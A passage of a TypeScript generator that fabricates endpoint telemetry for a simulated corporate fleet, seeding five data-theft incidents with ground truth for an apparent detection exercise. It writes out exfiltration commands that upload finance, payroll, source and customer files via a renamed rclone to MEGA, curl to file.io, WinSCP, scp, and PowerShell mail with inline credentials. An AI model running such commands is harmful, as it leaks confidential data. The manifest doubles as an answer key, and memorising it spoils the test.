  const dump = day.spawn(sh, L.pgdump!, `/usr/pgsql-15/bin/pg_dump -Fc -f ${dumpFile} app`, t + 2000, { acct: pg });
  const size = r.int(150_000_000, 320_000_000);
  day.file(dump, t + r.int(2, 5) * SEC, { action: 'FileCreated', path: dumpFile, size });
  const tr = t + r.int(12, 14) * MIN;
  const rsync = day.spawn(sh, L.rsync!, 'rsync -a /var/backups/pgsql/ svc_backup@backup-01:/backup/pgsql/', tr, { acct: pg });
  const ssh = day.spawn(rsync, L.ssh!, 'ssh -l svc_backup backup-01 rsync --server -logDtpre.iLsfxCIvu . /backup/pgsql/', tr + 3000, { acct: pg });
  day.net(ssh, tr + 150_000, { ip: '10.10.5.40', port: 22, url: 'backup-01', sent: size + r.int(100_000, 900_000), recv: r.int(200_000, 900_000) });
}

function webHost(day: Day): void {
  const d = day.dev;
  const r = day.rng;
  const L = d.lx!;
  const b = d.boot;
  // Public clients.
  for (let i = 0, n = r.count(90 * day.scale * (day.weekend ? 0.6 : 1)); i < n; i++) {
    const ip = `${r.pick([81, 86, 92, 109, 176, 185, 188, 212, 217])}.${r.int(1, 254)}.${r.int(0, 254)}.${r.int(1, 254)}`;
    day.net(b.nginx!, day.between(0, 24), { ip, port: r.int(1024, 65535), localPort: 443, action: 'InboundConnectionAccepted', sent: r.int(3000, 2_000_000), recv: r.int(600, 20_000) });
  }
  // nginx to the application on loopback, the application to the database.
  for (let i = 0, n = r.count(12 * day.scale); i < n; i++) day.net(b.nginx!, day.between(0, 24), { ip: '127.0.0.1', port: 8000, sent: r.int(600, 20_000), recv: r.int(3000, 900_000) });
  if (d.def.role === 'web') {
    for (let i = 0, n = r.count(10 * day.scale); i < n; i++) day.net(b.gunicorn!, day.between(0, 24), { ip: '10.10.5.22', port: 5432, sent: r.int(2000, 200_000), recv: r.int(10_000, 9_000_000) });
  }
  // certbot twice a day.
  for (const h of [r.int(0, 11), r.int(12, 23)]) {
    const t = day.at(h, r.int(0, 59));
    const cb = day.spawn(b.systemd!, L.certbot!, '/usr/bin/python3 /usr/bin/certbot -q renew --no-random-sleep-on-renew', t);
    day.net(cb, t + 2 * SEC, { ip: '172.65.32.248', port: 443, url: 'acme-v02.api.letsencrypt.org', sent: r.int(2000, 6000), recv: r.int(4000, 12_000) });
  }
}

// ---------------------------------------------------------------------------------------------
// Incidents

interface IncidentPlan {
  id: string;
  title: string;
  technique: string;
  techniques: string[];
  device: string;
  day: number;
  account: string;
  process: string;
  networkProcess: string;
  commandLine: string;
  detectionHints: string[];
  seedLegsIfInWindow: string[];
  emit(day: Day): IncidentResult;
}

interface IncidentResult {
  start: number;
  end: number;
  conns: { ip: string; port: number; url: string; sent: number }[];
  stages: { us: number; table: SampleTable; what: string }[];
}

const I1_CMD = 'C:\\Users\\Public\\svchost-update.exe copy C:\\Finance\\Q3 exfil:loot --transfers 8 -P --no-check-certificate';
const I2_CMD = 'curl.exe  -k -F "file=@C:\\Users\\a.lee\\Documents\\payroll.zip" https://file.io/';
const I3_CMD = '"C:\\Users\\m.chan\\Downloads\\WinSCP-6.3.5-Portable\\WinSCP.exe" /command "open sftp://u@203.0.113.50" "put C:\\src\\*.zip /incoming/" "exit"';
const I4_CMD = 'scp /tmp/db.tgz ops@198.51.100.77:/tmp/';
const I5_CMD = 'powershell.exe  -NoProfile -Command "$p = ConvertTo-SecureString \'Spr1ng!2026\' -AsPlainText -Force; $c = New-Object System.Management.Automation.PSCredential(\'k.ortiz.home@gmail.com\', $p); Send-MailMessage -SmtpServer smtp.gmail.com -Port 587 -UseSsl -Credential $c -From k.ortiz.home@gmail.com -To k.ortiz.home@gmail.com -Subject \'notes\' -Body \'.\' -Attachments C:\\Users\\k.ortiz\\Documents\\customers.xlsx"';

const MEGA_STORAGE: Dest[] = [
  ['gfs270n122.userstorage.mega.co.nz', '66.203.125.11'], ['gfs262n300.userstorage.mega.co.nz', '66.203.125.13'],
  ['gfs214n121.userstorage.mega.co.nz', '89.44.169.135'], ['gfs302n164.userstorage.mega.co.nz', '89.44.169.140'],
];
const MEGA_API: Dest = ['g.api.mega.co.nz', '66.203.127.16'];

function incidentPlans(seed: string): IncidentPlan[] {
  return [
    {
      id: 'I1', title: 'Renamed rclone copies the Q3 finance folder to MEGA at night', technique: 'T1048.002', techniques: ['T1048.002', 'T1567.002'],
      device: 'WS-FIN-03', day: 5, account: 'j.doe', process: 'svchost-update.exe', networkProcess: 'svchost-update.exe', commandLine: I1_CMD,
      detectionHints: [
        'ProcessVersionInfoOriginalFileName is rclone.exe but FileName is svchost-update.exe (renamed binary)',
        'ProcessVersionInfoFileDescription "Rsync for cloud storage"; same SHA256 as rclone v1.68.1',
        'binary runs from C:\\Users\\Public\\',
        'rclone flags --transfers 8 -P --no-check-certificate; "config create exfil mega" first; rclone.conf written',
        'destinations *.userstorage.mega.co.nz / g.api.mega.co.nz (mega.nz) over 443',
        'off hours (02:10 UTC) in an RDP session (IsProcessRemoteSession, 10.99.0.61 over VPN)',
        '~180 MB sent in 20 minutes from a finance workstation whose baseline is a few MB per process',
      ],
      seedLegsIfInWindow: [],
      emit: (day) => emitI1(day, seed),
    },
    {
      id: 'I2', title: 'curl.exe uploads payroll.zip to file.io', technique: 'T1048.002', techniques: ['T1048.002', 'T1567.002'],
      device: 'WS-HR-07', day: 4, account: 'a.lee', process: 'curl.exe', networkProcess: 'curl.exe', commandLine: I2_CMD,
      detectionHints: [
        'curl -F "file=@..." (multipart upload of a local file) with -k (certificate checks off)',
        'destination file.io (a file-sharing site) in the command line and RemoteUrl',
        'payroll.zip created by explorer.exe minutes before',
        '~25 MB sent in one connection by curl.exe from an HR workstation',
      ],
      seedLegsIfInWindow: ['tool-start', 'network-volume'],
      emit: (day) => emitI2(day, seed),
    },
    {
      id: 'I3', title: 'Portable WinSCP scripted upload over SFTP', technique: 'T1048.002', techniques: ['T1048.002'],
      device: 'WS-ENG-11', day: 3, account: 'm.chan', process: 'WinSCP.exe', networkProcess: 'WinSCP.exe', commandLine: I3_CMD,
      detectionHints: [
        'WinSCP run from the user\'s Downloads folder (portable), not Program Files',
        'WinSCP.com /script=C:\\Temp\\up.txt, then WinSCP.exe /command "open sftp://..." "put ..." "exit"',
        'SFTP (22) to a public address never seen before (203.0.113.50), ~60 MB, 19:40 after hours',
        'script file C:\\Temp\\up.txt created, then deleted',
      ],
      seedLegsIfInWindow: ['tool-start', 'network-volume'],
      emit: (day) => emitI3(day, seed),
    },
    {
      id: 'I4', title: 'Database archive copied off a Linux server with scp', technique: 'T1048.002', techniques: ['T1048.002'],
      device: 'srv-db-02', day: 2, account: 'root', process: 'scp', networkProcess: 'ssh', commandLine: I4_CMD,
      detectionHints: [
        'Linux /usr/bin/scp (no .exe), its /usr/bin/ssh child makes the connection (command line "... scp -t /tmp/")',
        'tar czf /tmp/db.tgz /var/lib/pgsql right before; /tmp/db.tgz removed after',
        'ssh login as postgres (from VPN 10.99.0.23), sudo -i to root, 23:15 at night',
        '~300 MB over 22 to a public address (198.51.100.77), unlike the nightly rsync to backup-01 (private)',
      ],
      seedLegsIfInWindow: ['network-volume'],
      emit: (day) => emitI4(day, seed),
    },
    {
      id: 'I5', title: 'PowerShell Send-MailMessage -UseSsl mails customers.xlsx to a personal Gmail', technique: 'T1048.002', techniques: ['T1048.002'],
      device: 'WS-SAL-02', day: 1, account: 'k.ortiz', process: 'powershell.exe', networkProcess: 'powershell.exe', commandLine: I5_CMD,
      detectionHints: [
        'Send-MailMessage -UseSsl -Attachments (SMTPS from PowerShell, not a mail client)',
        'port 587 to smtp.gmail.com (a public mail service), ~8 MB',
        'DeviceEvents PowerShellCommand Send-MailMessage',
        'customers.xlsx saved by Excel 15 minutes before',
      ],
      seedLegsIfInWindow: [],
      emit: (day) => emitI5(day, seed),
    },
  ];
}

function incidentDays(plans: IncidentPlan[], defs: DeviceDef[], days: number): IncidentPlan[] {
  return plans.filter((p) => p.day < days && defs.some((d) => d.name === p.device));
}

function splitBytes(rng: Rng, total: number, parts: number): number[] {
  const w = Array.from({ length: parts }, () => 0.5 + rng.next());
  const sum = w.reduce((a, b) => a + b, 0);
  const out = w.map((x) => Math.floor((total * x) / sum));
  out[out.length - 1]! += total - out.reduce((a, b) => a + b, 0);
  return out;
}

function emitI1(day: Day, seed: string): IncidentResult {
  const d = day.dev;
  const r = new Rng(`${seed}|I1`);
  const user = d.user!;
  const stages: IncidentResult['stages'] = [];
  const remote = { device: 'DESKTOP-Q4M7J2K', ip: '10.99.0.61' };
  const tLogon = day.t0 + 2 * HOUR + 2 * MIN + r.int(0, 59) * SEC;
  // RDP in over the VPN.
  day.net(d.boot.termservice!, tLogon - 20 * SEC, { ip: remote.ip, port: r.int(50000, 60000), localPort: 3389, action: 'InboundConnectionAccepted', sent: 4_800_000, recv: 2_100_000 });
  const sess = logon(day, tLogon, 1, remote, 3);
  stages.push({ us: tLogon, table: 'DeviceProcessEvents', what: `RDP logon from ${remote.ip} (${remote.device}); explorer.exe in session 3` });
  // Download rclone with Edge, unpack it, rename it into C:\Users\Public.
  const tDl = tLogon + 2 * MIN + r.int(0, 30) * SEC;
  const edge = day.spawn(sess.explorer, W.msedge, `"${W.msedge.path}" `, tDl - 40 * SEC);
  const netsvc = day.spawn(edge, W.msedge, `"${W.msedge.path}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2204 --field-trial-handle=2016,i,8841224791043117712,13007617742166548841,262144 /prefetch:11`, tDl - 39 * SEC);
  day.net(netsvc, tDl - 3 * SEC, { ip: '5.28.179.102', port: 443, url: 'downloads.rclone.org', sent: 2400, recv: 24_812_331, tls: true });
  const zip = `C:\\Users\\${user.name}\\Downloads\\rclone-v1.68.1-windows-amd64.zip`;
  day.file(edge, tDl, { action: 'FileCreated', path: zip, size: 24_801_102, originUrl: 'https://downloads.rclone.org/v1.68.1/rclone-v1.68.1-windows-amd64.zip', originIp: '5.28.179.102', referrer: 'https://rclone.org/downloads/', additional: { FileType: 'Zip' } });
  stages.push({ us: tDl, table: 'DeviceFileEvents', what: 'rclone-v1.68.1-windows-amd64.zip downloaded from downloads.rclone.org' });
  const extracted = `C:\\Users\\${user.name}\\Downloads\\rclone-v1.68.1-windows-amd64\\rclone.exe`;
  day.file(sess.explorer, tDl + 70 * SEC, { action: 'FileCreated', path: extracted, size: 66_052_096, additional: { FileType: 'PortableExecutable' } });
  const tCmd = tDl + 95 * SEC;
  const cmd = day.spawn(sess.explorer, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', tCmd);
  day.spawn(cmd, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', tCmd + 30_000);
  const renamed = 'C:\\Users\\Public\\svchost-update.exe';
  day.file(cmd, tCmd + 40 * SEC, { action: 'FileRenamed', path: renamed, previousPath: extracted, size: 66_052_096, additional: { FileType: 'PortableExecutable' } });
  stages.push({ us: tCmd + 40 * SEC, table: 'DeviceFileEvents', what: 'rclone.exe moved and renamed to C:\\Users\\Public\\svchost-update.exe' });
  // config create exfil mega ...
  const rcImg = image('C:\\Users\\Public\\svchost-update.exe', RCLONE_WIN);
  const tCfg = day.t0 + 2 * HOUR + 10 * MIN + 4 * SEC + r.int(0, 900_000);
  const cfg = day.spawn(cmd, rcImg, 'C:\\Users\\Public\\svchost-update.exe config create exfil mega user fin.archive.q3@proton.me pass Wint3r!sComing --obscure', tCfg);
  day.net(cfg, tCfg + 1_300_000, { ip: MEGA_API[1], port: 443, url: MEGA_API[0], sent: 3_112, recv: 9_860, tls: true });
  const conns: IncidentResult['conns'] = [{ ip: MEGA_API[1], port: 443, url: MEGA_API[0], sent: 3_112 }];
  day.file(cfg, tCfg + 1_900_000, { action: 'FileCreated', path: `C:\\Users\\${user.name}\\AppData\\Roaming\\rclone\\rclone.conf`, size: 142 });
  stages.push({ us: tCfg, table: 'DeviceProcessEvents', what: 'svchost-update.exe config create exfil mega ...; rclone.conf written' });
  // copy C:\Finance\Q3 exfil:loot --transfers 8 -P --no-check-certificate
  const tCopy = day.t0 + 2 * HOUR + 11 * MIN + 20 * SEC + r.int(0, 900_000);
  const copy = day.spawn(cmd, rcImg, I1_CMD, tCopy);
  stages.push({ us: tCopy, table: 'DeviceProcessEvents', what: 'svchost-update.exe copy C:\\Finance\\Q3 exfil:loot --transfers 8 -P --no-check-certificate' });
  const tApi = tCopy + 900_000;
  day.net(copy, tApi, { ip: MEGA_API[1], port: 443, url: MEGA_API[0], sent: 6_420, recv: 41_288, tls: true });
  conns.push({ ip: MEGA_API[1], port: 443, url: MEGA_API[0], sent: 6_420 });
  const n = 16;
  const uploads = splitBytes(r, 188_743_680 - 3_112 - 6_420, n);
  const tEnd = day.t0 + 2 * HOUR + 29 * MIN + 40 * SEC;
  let last = tApi;
  for (let i = 0; i < n; i++) {
    const dst = MEGA_STORAGE[i % MEGA_STORAGE.length]!;
    const t = tCopy + 3 * SEC + Math.floor(((tEnd - tCopy - 3 * SEC) * i) / n) + r.int(0, 20 * SEC);
    day.net(copy, t, { ip: dst[1], port: 443, url: i % 3 === 0 ? dst[0] : '', sent: uploads[i]!, recv: r.int(4000, 30_000), tls: i % 4 === 0, tlsVersion: 'TLSv12' });
    conns.push({ ip: dst[1], port: 443, url: i % 3 === 0 ? dst[0] : '', sent: uploads[i]! });
    last = Math.max(last, t);
  }
  return { start: tCfg, end: last + 1_000_000, conns, stages };
}

function emitI2(day: Day, seed: string): IncidentResult {
  const d = day.dev;
  const r = new Rng(`${seed}|I2`);
  const user = d.user!;
  const stages: IncidentResult['stages'] = [];
  const sess = findSession(day);
  const zip = `C:\\Users\\${user.name}\\Documents\\payroll.zip`;
  const tZip = day.t0 + 13 * HOUR + 57 * MIN + 12 * SEC + r.int(0, 999_999);
  day.file(sess, tZip, { action: 'FileCreated', path: zip, size: 26_187_341, additional: { FileType: 'Zip' } });
  stages.push({ us: tZip, table: 'DeviceFileEvents', what: 'payroll.zip created by explorer.exe (Send to > Compressed folder)' });
  const tCmd = day.t0 + 14 * HOUR + 1 * MIN + 30 * SEC + r.int(0, 999_999);
  const cmd = day.spawn(sess, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', tCmd);
  day.spawn(cmd, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', tCmd + 30_000);
  const t = day.t0 + 14 * HOUR + 2 * MIN + 11 * SEC + r.int(0, 999_999);
  const curl = day.spawn(cmd, W.curl, I2_CMD, t);
  stages.push({ us: t, table: 'DeviceProcessEvents', what: 'curl.exe -k -F "file=@...payroll.zip" https://file.io/' });
  const sent = 26_214_400 + 1_893;
  day.net(curl, t + 600_000, { ip: '34.197.122.172', port: 443, url: 'file.io', sent, recv: 1_214, tls: true, tlsVersion: 'TLSv13' });
  return { start: t, end: t + 38 * SEC, conns: [{ ip: '34.197.122.172', port: 443, url: 'file.io', sent }], stages };
}

function emitI3(day: Day, seed: string): IncidentResult {
  const d = day.dev;
  const r = new Rng(`${seed}|I3`);
  const user = d.user!;
  const stages: IncidentResult['stages'] = [];
  const sess = findSession(day, 20);
  const base = `C:\\Users\\${user.name}\\Downloads\\WinSCP-6.3.5-Portable`;
  const tDl = day.t0 + 19 * HOUR + 31 * MIN + r.int(0, 59) * SEC;
  const chrome = day.spawn(sess, W.chrome, `"${W.chrome.path}" `, tDl - 60 * SEC);
  day.file(chrome, tDl, {
    action: 'FileCreated', path: `C:\\Users\\${user.name}\\Downloads\\WinSCP-6.3.5-Portable.zip`, size: 11_935_802,
    originUrl: 'https://winscp.net/download/files/2024110519313b4f5f0e/WinSCP-6.3.5-Portable.zip', originIp: '185.157.233.175', referrer: 'https://winscp.net/eng/downloads.php', additional: { FileType: 'Zip' },
  });
  day.file(sess, tDl + 100 * SEC, { action: 'FileCreated', path: `${base}\\WinSCP.exe`, size: WINSCP.size, additional: { FileType: 'PortableExecutable' } });
  day.file(sess, tDl + 101 * SEC, { action: 'FileCreated', path: `${base}\\WinSCP.com`, size: WINSCP_COM.size, additional: { FileType: 'PortableExecutable' } });
  stages.push({ us: tDl, table: 'DeviceFileEvents', what: 'portable WinSCP downloaded and unpacked into Downloads' });
  const tZip = day.t0 + 19 * HOUR + 35 * MIN + r.int(0, 59) * SEC;
  day.file(sess, tZip, { action: 'FileCreated', path: 'C:\\src\\firmware-src.zip', size: 41_220_771, additional: { FileType: 'Zip' } });
  day.file(sess, tZip + 9 * SEC, { action: 'FileCreated', path: 'C:\\src\\board-designs.zip', size: 21_488_102, additional: { FileType: 'Zip' } });
  const note = day.spawn(sess, W.notepad, '"C:\\Windows\\system32\\notepad.exe" ', day.t0 + 19 * HOUR + 37 * MIN + 50 * SEC);
  day.file(note, day.t0 + 19 * HOUR + 38 * MIN + 40 * SEC, { action: 'FileCreated', path: 'C:\\Temp\\up.txt', size: 96 });
  stages.push({ us: day.t0 + 19 * HOUR + 38 * MIN + 40 * SEC, table: 'DeviceFileEvents', what: 'C:\\Temp\\up.txt (WinSCP script) written with notepad' });
  const tCmd = day.t0 + 19 * HOUR + 39 * MIN + 20 * SEC;
  const cmd = day.spawn(sess, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', tCmd);
  day.spawn(cmd, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', tCmd + 30_000);
  // First try: WinSCP.com with the script. The host key is unknown, so the scripted session aborts.
  const t1 = day.t0 + 19 * HOUR + 40 * MIN + 5 * SEC + r.int(0, 999_999);
  const com = day.spawn(cmd, image(`${base}\\WinSCP.com`, WINSCP_COM), `"${base}\\WinSCP.com" /script=C:\\Temp\\up.txt`, t1);
  const wsImg = image(`${base}\\WinSCP.exe`, WINSCP);
  const console = day.spawn(com, wsImg, `"${base}\\WinSCP.exe" /console=6.3.5 /consoleinstance=_${r.int(1000, 9999)}_${r.int(100, 999)} /script=C:\\Temp\\up.txt`, t1 + 120_000);
  day.net(console, t1 + 900_000, { ip: '203.0.113.50', port: 22, sent: 3_904, recv: 2_660 });
  stages.push({ us: t1, table: 'DeviceProcessEvents', what: 'WinSCP.com /script=C:\\Temp\\up.txt (aborts on the unknown host key)' });
  // Second try: WinSCP.exe /command with the commands inline.
  const t2 = day.t0 + 19 * HOUR + 41 * MIN + 18 * SEC + r.int(0, 999_999);
  const ws = day.spawn(cmd, wsImg, I3_CMD, t2);
  stages.push({ us: t2, table: 'DeviceProcessEvents', what: 'WinSCP.exe /command "open sftp://u@203.0.113.50" "put C:\\src\\*.zip /incoming/" "exit"' });
  const sent = 62_914_560 + 41_877;
  day.net(ws, t2 + 1_400_000, { ip: '203.0.113.50', port: 22, sent, recv: 88_410 });
  const tDel = day.t0 + 19 * HOUR + 52 * MIN + 10 * SEC;
  day.file(cmd, tDel, { action: 'FileDeleted', path: 'C:\\Temp\\up.txt' });
  stages.push({ us: tDel, table: 'DeviceFileEvents', what: 'C:\\Temp\\up.txt deleted' });
  return { start: t1, end: tDel + SEC, conns: [{ ip: '203.0.113.50', port: 22, url: '', sent: 3_904 }, { ip: '203.0.113.50', port: 22, url: '', sent }], stages };
}

function emitI4(day: Day, seed: string): IncidentResult {
  const d = day.dev;
  const r = new Rng(`${seed}|I4`);
  const L = d.lx!;
  const stages: IncidentResult['stages'] = [];
  const pg = linuxAccount(d.def.name, 'postgres');
  const root = linuxAccount(d.def.name, 'root');
  const tIn = day.t0 + 23 * HOUR + 8 * MIN + 31 * SEC + r.int(0, 999_999);
  day.net(d.boot.sshd!, tIn, { ip: '10.99.0.23', port: 51_944, localPort: 22, action: 'InboundConnectionAccepted', sent: 310_212, recv: 48_880 });
  const priv = day.spawn(d.boot.sshd!, L.sshd!, 'sshd: postgres [priv]', tIn + 400_000, { acct: root });
  const sshd = day.spawn(priv, L.sshd!, 'sshd: postgres@pts/1', tIn + 1_100_000, { acct: pg });
  const sh = day.spawn(sshd, L.bash!, '-bash', tIn + 1_200_000, { acct: pg });
  stages.push({ us: tIn, table: 'DeviceNetworkEvents', what: 'ssh login as postgres from 10.99.0.23 (VPN)' });
  day.spawn(sh, L.id!, 'id', tIn + 21 * SEC);
  day.spawn(sh, L.sudo!, 'sudo -l', tIn + 64 * SEC);
  const tSudo = day.t0 + 23 * HOUR + 11 * MIN + 2 * SEC + r.int(0, 999_999);
  const sudo = day.spawn(sh, L.sudo!, 'sudo -i', tSudo);
  const rootSh = day.spawn(sudo, L.bash!, '-bash', tSudo + 900_000, { acct: root });
  stages.push({ us: tSudo, table: 'DeviceProcessEvents', what: 'sudo -i to root' });
  day.spawn(rootSh, L.ls!, 'ls -la /var/lib/pgsql', tSudo + 40 * SEC);
  const tTar = day.t0 + 23 * HOUR + 15 * MIN + 1 * SEC + r.int(0, 999_999);
  const tar = day.spawn(rootSh, L.tar!, 'tar czf /tmp/db.tgz /var/lib/pgsql', tTar);
  day.spawn(tar, L.gzip!, 'gzip', tTar + 2000);
  day.file(tar, tTar + 40_000, { action: 'FileCreated', path: '/tmp/db.tgz', size: 314_572_800 + 12_310 });
  stages.push({ us: tTar, table: 'DeviceProcessEvents', what: 'tar czf /tmp/db.tgz /var/lib/pgsql' });
  const tScp = day.t0 + 23 * HOUR + 16 * MIN + 14 * SEC + r.int(0, 999_999);
  const scp = day.spawn(rootSh, L.scp!, I4_CMD, tScp);
  const ssh = day.spawn(scp, L.ssh!, '/usr/bin/ssh -x -oPermitLocalCommand=no -oClearAllForwardings=yes -oRemoteCommand=none -oRequestTTY=no -oForwardAgent=no -l ops -- 198.51.100.77 scp -t /tmp/', tScp + 3_000);
  const sent = 314_572_800 + 12_310 + 96_451;
  day.net(ssh, tScp + 260_000, { ip: '198.51.100.77', port: 22, sent, recv: 21_904 });
  stages.push({ us: tScp, table: 'DeviceProcessEvents', what: 'scp /tmp/db.tgz ops@198.51.100.77:/tmp/ (connection made by the ssh child)' });
  const tRm = day.t0 + 23 * HOUR + 20 * MIN + 30 * SEC + r.int(0, 999_999);
  const rm = day.spawn(rootSh, L.rm!, 'rm -f /tmp/db.tgz', tRm);
  day.file(rm, tRm + 2000, { action: 'FileDeleted', path: '/tmp/db.tgz' });
  stages.push({ us: tRm, table: 'DeviceProcessEvents', what: 'rm -f /tmp/db.tgz' });
  return { start: tTar, end: tRm + SEC, conns: [{ ip: '198.51.100.77', port: 22, url: '', sent }], stages };
}

function emitI5(day: Day, seed: string): IncidentResult {
  const d = day.dev;
  const r = new Rng(`${seed}|I5`);
  const user = d.user!;
  const stages: IncidentResult['stages'] = [];
  const sess = findSession(day);
  const doc = `C:\\Users\\${user.name}\\Documents\\customers.xlsx`;
  const tX = day.t0 + 16 * HOUR + 28 * MIN + r.int(0, 59) * SEC;
  const excel = day.spawn(sess, W.excel, `"${W.excel.path}" "${doc}"`, tX);
  day.file(excel, tX + 3 * MIN + 10 * SEC, { action: 'FileModified', path: doc, size: 6_029_312 });
  stages.push({ us: tX + 3 * MIN + 10 * SEC, table: 'DeviceFileEvents', what: 'customers.xlsx saved by EXCEL.EXE' });
  const tCmd = day.t0 + 16 * HOUR + 44 * MIN + 31 * SEC;
  const cmd = day.spawn(sess, W.cmd, '"C:\\Windows\\system32\\cmd.exe" ', tCmd);
  day.spawn(cmd, W.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', tCmd + 30_000);
  const t = day.t0 + 16 * HOUR + 45 * MIN + 10 * SEC + r.int(0, 999_999);
  const ps = day.spawn(cmd, W.powershell, I5_CMD, t);
  day.event(ps, t + 1_400_000, 'PowerShellCommand', { Command: 'ConvertTo-SecureString' });
  day.event(ps, t + 1_500_000, 'PowerShellCommand', { Command: 'New-Object' });
  day.event(ps, t + 1_600_000, 'PowerShellCommand', { Command: 'Send-MailMessage' });
  stages.push({ us: t, table: 'DeviceProcessEvents', what: 'powershell.exe Send-MailMessage -SmtpServer smtp.gmail.com -Port 587 -UseSsl -Attachments customers.xlsx' });
  const sent = 8_238_412;
  day.net(ps, t + 2_100_000, { ip: '142.250.102.108', port: 587, url: 'smtp.gmail.com', sent, recv: 6_212 });
  return { start: t, end: t + 35 * SEC, conns: [{ ip: '142.250.102.108', port: 587, url: 'smtp.gmail.com', sent }], stages };
}

/** The explorer of the day's user session (logging one on when the user has none). */
function findSession(day: Day, hour = 9): Proc {
  const sess = day.sessions.filter((x) => x.remote === null).at(-1);
  return sess ? sess.explorer : logon(day, day.t0 + hour * HOUR + day.rng.int(0, 59) * MIN, 3).explorer;
}

// ---------------------------------------------------------------------------------------------
// Driving it

interface Resolved {
  seed: string;
  seedValue: number | string;
  defs: DeviceDef[];
  days: number;
  start: number;
  scale: number;
}

function resolve(o: FleetOptions): Resolved {
  const seedValue = o.seed ?? 20261108;
  const start = Date.parse(o.start ?? '2026-11-01T00:00:00Z');
  if (!Number.isFinite(start)) throw new Error(`generate-sample: bad start '${o.start}'`);
  return { seed: String(seedValue), seedValue, defs: fleetDefs(o.devices ?? NAMED_FLEET.length), days: o.days ?? 7, start: start * 1000, scale: o.scale ?? 1 };
}

/**
 * The fleet's records, one device-day at a time (in time order within it), `{table, record}`.
 * Streams: memory holds one device-day of rows and a small state per device.
 */
export function* generateFleet(options: FleetOptions = {}): Generator<FleetRecord> {
  const o = resolve(options);
  const states = o.defs.map((def) => setupDevice(def, o.seed, o.start));
  const plans = incidentDays(incidentPlans(o.seed), o.defs, o.days);
  for (let di = 0; di < o.days; di++) {
    const t0 = o.start + di * DAY;
    for (const st of states) {
      const day = new Day(st, new Rng(`${o.seed}|${st.def.name}|${di}`), t0, di, o.scale);
      yield* runDay(day, plans);
    }
  }
}

function* runDay(day: Day, plans: IncidentPlan[]): Generator<FleetRecord> {
  const st = day.dev;
  if (st.windows) windowsDay(day);
  else linuxDay(day);
  for (const p of plans) if (p.device === st.def.name && p.day === day.index) p.emit(day);
  const rows = day.rows;
  const order = rows.map((_, i) => i).sort((a, b) => rows[a]!.us - rows[b]!.us || a - b);
  for (const i of order) {
    const row = rows[i]!;
    st.reportId += BigInt(1 + Math.floor(st.rng.next() * 3));
    row.sup.ReportId = st.reportId <= BigInt(Number.MAX_SAFE_INTEGER) ? Number(st.reportId) : st.reportId;
    row.sup.DeviceId = st.id;
    yield { table: row.table, record: project(row.table, row.sup) };
  }
}

/** The ground truth for a fleet: devices, incidents (with their exact byte counts and windows), benign classes. */
export function fleetManifest(options: FleetOptions = {}, tableCounts: Record<string, number> = {}): Manifest {
  const o = resolve(options);
  const plans = incidentDays(incidentPlans(o.seed), o.defs, o.days);
  const states = new Map(o.defs.map((def) => [def.name, setupDevice(def, o.seed, o.start)]));
  const incidents: ManifestIncident[] = [];
  for (const p of plans) {
    // Re-run the incident on a scratch day of its device: incidents draw from their own PRNG, so the result is the generated one.
    const st = states.get(p.device)!;
    const day = new Day(st, new Rng(`${o.seed}|${st.def.name}|${p.day}|manifest`), o.start + p.day * DAY, p.day, o.scale);
    if (st.windows && st.user) logon(day, day.t0 + 9 * HOUR, 8);
    const res = p.emit(day);
    const ips = [...new Set(res.conns.map((c) => c.ip))];
    incidents.push({
      id: p.id, title: p.title, technique: p.technique, techniques: p.techniques, device: p.device, deviceId: st.id, account: p.account,
      process: p.process, networkProcess: p.networkProcess, commandLine: p.commandLine,
      start: formatTime(res.start), end: formatTime(res.end), remoteIps: ips, remotePorts: [...new Set(res.conns.map((c) => c.port))],
      remoteUrls: [...new Set(res.conns.map((c) => c.url).filter(Boolean))],
      bytesSent: res.conns.reduce((a, c) => a + c.sent, 0), connections: res.conns.length,
      stages: res.stages.sort((a, b) => a.us - b.us).map((s) => ({ time: formatTime(s.us), table: s.table, what: s.what })),
      detectionHints: p.detectionHints, seedLegsIfInWindow: p.seedLegsIfInWindow,
    });
  }
  incidents.sort((a, b) => a.id.localeCompare(b.id));
  const names = new Set(o.defs.map((d) => d.name));
  const only = (xs: string[]): string[] => xs.filter((x) => names.has(x));
  const winNames = o.defs.filter((d) => d.os === 'Windows').map((d) => d.name);
  const lxNames = o.defs.filter((d) => d.os === 'Linux').map((d) => d.name);
  const benign: ManifestBenign[] = [
    {
      class: 'FP1', description: 'IT administrator it.admin on ADM-01 moving files to managed servers (10.10.5.0/24) and the managed DMZ host 203.0.113.10 with WinSCP, FileZilla (fzsftp.exe for SFTP, FTPS on 21) and Windows OpenSSH scp',
      devices: only(['ADM-01']), accounts: ['it.admin'], processes: ['WinSCP.exe', 'filezilla.exe', 'fzsftp.exe', 'scp.exe', 'ssh.exe'],
      destinations: ['10.10.5.0/24', '203.0.113.10', 'dmz-files.corp.example'], schedule: 'daily, weekends included (on call)', seedLegs: ['tool-start', 'network-volume'],
    },
    {
      class: 'FP2', description: 'Backups to the DR site 198.51.100.200: Veeam Agent on ADM-01 and SEC-01 (object storage over 443, nightly 01:00), and on backup-01 svc_backup runs "rclone sync /backup dr:bucket" (443, 01:00) and an sftp batch (22, 03:30)',
      devices: only(['ADM-01', 'SEC-01', 'backup-01']), accounts: ['system', 'svc_backup'], processes: ['VeeamAgent.exe', 'rclone', 'sftp', 'ssh'],
      destinations: ['198.51.100.200', 'dr-s3.corp.example', 'dr-sftp.corp.example'], schedule: 'nightly', seedLegs: ['network-volume'],
    },
    {
      class: 'FP3', description: 'CI builds on build-01/build-02 as svc_ci: "rclone copy ./dist s3:artifacts/..." to S3, "curl -T <pkg>.tgz https://artifacts.corp.example/...", Maven with -Djdk.tls.client.protocols (many connections to repo.maven.apache.org), npm',
      devices: only(['build-01', 'build-02']), accounts: ['svc_ci'], processes: ['rclone', 'curl', 'java', 'node', 'git-remote-https'],
